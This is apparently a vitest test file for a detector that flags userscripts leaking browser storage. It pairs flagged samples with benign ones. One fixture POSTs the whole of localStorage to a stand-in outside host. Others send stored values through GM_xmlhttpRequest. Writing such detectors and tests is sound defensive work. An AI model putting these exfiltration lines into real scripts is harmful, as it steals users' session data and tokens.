import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { storageExfiltration } from "./storage-exfiltration.ts";

describe("storage-exfiltration", () => {
	test.each([
		[
			"all of local storage",
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`fetch("https://c.stranger.test/",{method:"POST",body:JSON.stringify(localStorage)})`,
			),
		],
		[
			"one value, by itself, for a declared server",
			["high 7"],
			userscript(
				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.helper.example"],
				`GM_xmlhttpRequest({method:"POST",url:"https://api.helper.example/",data:sessionStorage.getItem("basket")})`,
			),
		],
		[
			"a declared server when asked: told",
			["low 8"],
			userscript(
				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.helper.example"],
				`const b=document.createElement("button");document.body.append(b);
b.addEventListener("click",()=>GM_xmlhttpRequest({method:"POST",url:"https://api.helper.example/",data:localStorage.getItem("basket")}))`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(storageExfiltration, code)).toEqual(expected);
	});

	test.each([
		[
			"settings kept for the next visit",
			userscript(
				["match https://shop.example/*"],
				`localStorage.setItem("wide","1");if(localStorage.getItem("wide"))document.body.classList.add("wide")`,
			),
		],
		[
			"values the script stored itself",
			userscript(
				[
					"match https://shop.example/*",
					"grant GM_xmlhttpRequest",
					"connect api.helper.example",
					"grant GM_getValue",
					"grant GM_setValue",
				],
				`const n=GM_getValue("count",0);GM_setValue("count",n+1);GM_xmlhttpRequest({url:"https://api.helper.example/?n="+n})`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(storageExfiltration, code)).toEqual([]);
	});
});
